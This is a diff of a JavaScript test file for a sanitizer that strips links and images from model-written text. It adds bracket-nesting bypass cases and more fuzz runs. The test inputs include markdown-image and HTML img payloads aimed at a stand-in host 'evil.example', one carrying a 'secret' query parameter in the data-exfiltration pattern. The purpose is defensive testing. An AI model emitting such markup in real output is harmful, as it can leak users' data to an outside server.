@@ -18,10 +18,12 @@ describe('what a model writes', () => {
     ['None of the tests were done.', 'None of the tests were done.'],
     ['a ![x](https://evil.example/?q=secret) b', 'a x b'],
     ['a [click](https://evil.example) b', 'a click b'],
-    ['see https://evil.example/a?b=c now', 'see [link removed] now'],
-    ['see www.evil.example now', 'see [link removed] now'],
-    ['<img src="https://evil.example/x">done', 'done'],
+    ['see https://evil.example/a?b=c now', 'see ‹link removed› now'],
+    ['see www.evil.example now', 'see ‹link removed› now'],
+    ['<img src="https://evil.example/x">done', ' done'],
     ['a ![x](\n//evil.example) b', 'a ![x] (\n//evil.example) b'],
+    ['[b]<b>(//evil.example)', '[b] (//evil.example)'],
+    ['[b][(//evil.example)](x)', '[b] (//evil.example)'],
     ['at [0:01:02] she said', 'at [0:01:02] she said'],
   ])('%j becomes %j', (given, expected) => {
     expect(cleaned(given)).toBe(expected)
@@ -44,6 +46,7 @@ describe('what a model writes', () => {
       '# ',
       'h',
       '<b>',
+      '](',
       '!',
       'NONE',
       '<',
@@ -59,7 +62,7 @@ describe('what a model writes', () => {
           expect(result).not.toMatch(/\bhttps?:\/\/|\]\(|<b>|\bwww\.\w/)
         },
       ),
-      { numRuns: 400 },
+      { numRuns: 2000 },
     )
   })
 
